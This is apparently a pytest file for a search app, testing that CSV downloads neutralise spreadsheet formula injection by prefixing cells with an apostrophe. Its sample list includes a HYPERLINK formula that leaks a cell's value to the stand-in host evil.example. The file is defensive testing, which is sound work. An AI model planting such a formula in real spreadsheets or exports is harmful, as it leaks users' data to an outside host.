"""CSV downloads open in a spreadsheet as the text that was typed, never as a formula."""

from __future__ import annotations

import csv
import io

import pandas as pd
import pytest

from search.spreadsheet import csv_text, frame_csv, safe_cell

ATTACKS = ['=HYPERLINK("http://evil.example/?leak="&A3,"Click")', "@SUM(A1:A9)",
           "+44 7700 900123 rang", "-2+3", "\t=1+1", "\r=1+1"]


@pytest.mark.parametrize("text", ATTACKS)
def test_a_cell_that_would_start_a_formula_is_kept_as_text(text: str) -> None:
    assert safe_cell(text) == "'" + text
    (row,) = csv.reader(io.StringIO(csv_text([[text, "ok"]])))
    assert row == ["'" + text, "ok"]


def test_ordinary_cells_and_numbers_pass_unchanged() -> None:
    assert [safe_cell(v) for v in ("how long does CBT take", -3, 0.85, None, "")] == \
        ["how long does CBT take", -3, 0.85, None, ""]


def test_a_gap_list_table_downloads_neutralised() -> None:
    # the shape of the app's gap list (app_pages/coverage.py downloads it with frame_csv)
    table = pd.DataFrame([{"question": ATTACKS[0], "times": 2, "comments": "@SUM(1)"}])
    rows = list(csv.reader(io.StringIO(frame_csv(table))))
    assert rows == [["question", "times", "comments"], ["'" + ATTACKS[0], "2", "'@SUM(1)"]]
